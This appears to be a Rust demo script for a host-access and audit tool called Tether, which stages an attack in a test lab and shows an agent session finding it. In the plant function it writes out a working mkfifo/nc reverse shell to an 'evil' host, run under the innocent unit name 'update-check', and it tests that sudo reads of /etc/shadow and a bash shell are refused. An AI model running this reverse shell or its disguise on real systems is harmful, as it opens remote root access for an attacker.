//! The main job, once, on one host: the analyst's story that `cargo xtask demo` tells.

use crate::central::random_name;
use crate::scene::Scene;
use anyhow::{Context, Result, ensure};
use serde::Serialize;
use std::path::Path;
use std::time::Instant;
use tether_audit::Link;
use tether_testhost::{Host, HostSpec, Image, Suite};

/// One step of the story.
#[derive(Debug, Clone, Serialize)]
pub struct Step {
    /// What happened.
    pub name: String,
    /// How long it took.
    pub milliseconds: u64,
}

/// What the demo found.
#[derive(Debug, Serialize)]
pub struct Story {
    /// Whether everything went as it must.
    pub ok: bool,
    /// The steps in order.
    pub steps: Vec<Step>,
    /// The audit records as they are.
    pub events: Vec<Link>,
    /// The trail as a person reads it.
    #[serde(skip)]
    pub trail: String,
}

/// Tells the steps as they come.
pub struct Teller<'t> {
    steps: Vec<Step>,
    tell: &'t mut dyn FnMut(&Step, &str),
}

impl Teller<'_> {
    fn step<T>(&mut self, name: &str, run: impl FnOnce() -> Result<(T, String)>) -> Result<T> {
        let start = Instant::now();
        let (value, shown) = run().with_context(|| name.to_owned())?;
        let milliseconds = u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX);
        let step = Step { name: name.to_owned(), milliseconds };
        (self.tell)(&step, &shown);
        self.steps.push(step);
        Ok(value)
    }
}

/// Tells the story on one suite with the package that was built last.
pub fn run(suite: Suite, tell: &mut dyn FnMut(&Step, &str)) -> Result<Story> {
    run_with(suite, &crate::scene::package()?, tell)
}

/// Tells the story on one suite with a package; `tell` hears each step with what was seen.
pub fn run_with(suite: Suite, package: &Path, tell: &mut dyn FnMut(&Step, &str)) -> Result<Story> {
    let mut teller = Teller { steps: Vec::new(), tell };
    let mut scene = teller.step("a host boots with Tether's package installed, and is enrolled", || {
        let scene = Scene::from_package(suite, package)?;
        let about = format!("{} at {}", suite.name(), scene.host.address());
        Ok((scene, about))
    })?;
    let attacker = teller.step("an attacker's reverse shell: nc, run by root, calling out", || plant(&scene))?;
    let (draft, agent) = teller.step("alice's agent is granted a session: its account is reserved", || {
        let (draft, agent) = scene.session()?;
        let shown = format!("{} for {}", draft.login, draft.grant.principal);
        Ok(((draft, agent), shown))
    })?;
    let session = draft.grant.session.to_string();
    let connection =
        teller.step("the agent logs in with its certificate", || Ok((agent.connect()?, agent.destination.clone())))?;
    let nc = teller.step("sudo ss -tn, sudo ps aux: the reverse shell is found", || {
        let connections = connection.run("sudo ss -tn")?;
        let wanted = format!("{}:4444", attacker.address());
        let found = connections.out.lines().find(|line| line.contains(&wanted));
        let found = found.with_context(|| format!("sudo ss -tn did not show it: {connections:?}"))?.to_owned();
        let processes = connection.run("sudo ps aux")?;
        let nc = processes
            .out
            .lines()
            .find(|line| line.contains(" nc ") && !line.contains("/bin/sh") && line.starts_with("root"));
        let nc = nc.with_context(|| format!("sudo ps aux did not show it: {processes:?}"))?.to_owned();
        let pid = nc.split_whitespace().nth(1).unwrap_or_default().to_owned();
        Ok((pid, format!("{found}\n{nc}")))
    })?;
    for command in ["cat /etc/shadow", &format!("cat /proc/{nc}/maps"), "rm -f /tmp/f", "bash"] {
        teller.step(&format!("sudo {command}: refused"), || {
            let ran = connection.run(&format!("sudo {command}"))?;
            ensure!(
                ran.code == 1 && ran.out.is_empty() && ran.err.contains("[bundle.no_rule]"),
                "it was not refused: {ran:?}"
            );
            Ok(((), ran.err))
        })?;
    }
    teller.step("the session ends, and nothing is left", || {
        connection.close();
        scene.wait_gone(&session)?;
        Ok(((), left(&scene, &draft.login)?))
    })?;
    let trail = teller.step("the chain holds", || {
        let checked = scene.host.sh("tether audit verify")?;
        Ok((scene.host.sh(&format!("tether session show {session}"))?, checked))
    })?;
    let events = scene.trail()?.of(&session).cloned().collect();
    Ok(Story { ok: true, steps: teller.steps, events, trail })
}

/// A second host plays the attacker and listens.
fn plant(scene: &Scene) -> Result<(Host, String)> {
    let image = Image::ensure(Suite::Bookworm, &mut |_| {})?;
    let name = format!("evil-{}", random_name(4)?);
    let attacker = scene.lab.boot(HostSpec::new(&name, &image))?;
    attacker.wait_ready(std::time::Duration::from_secs(60))?;
    attacker.sh("systemd-run --quiet nc -lk 4444 && until ss -tln | grep -q :4444; do :; done")?;
    let address = attacker.address();
    let shell = format!("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {address} 4444 >/tmp/f");
    scene.host.sh(&format!(
        "systemd-run --quiet --unit=update-check /bin/sh -c '{shell}'; until ss -tn | grep -q :4444; do :; done"
    ))?;
    Ok((attacker, format!("calls {address}:4444")))
}

/// Looks from outside, as root, for anything of the account.
fn left(scene: &Scene, account: &str) -> Result<String> {
    let look = format!(
        "getent passwd {account} {account}-ro; ps -eo user:40,args | grep '^{account}'; \
         find / -xdev -name '{account}*' -not -path '/proc/*' 2>/dev/null; \
         find /tmp /var/tmp /dev/shm /run /home /var/spool -xdev -uid +65535 -uid -100000 2>/dev/null; true"
    );
    let found = scene.host.sh(&look)?;
    ensure!(found.is_empty(), "this is left: {found}");
    Ok("no account, no process, no file".to_owned())
}
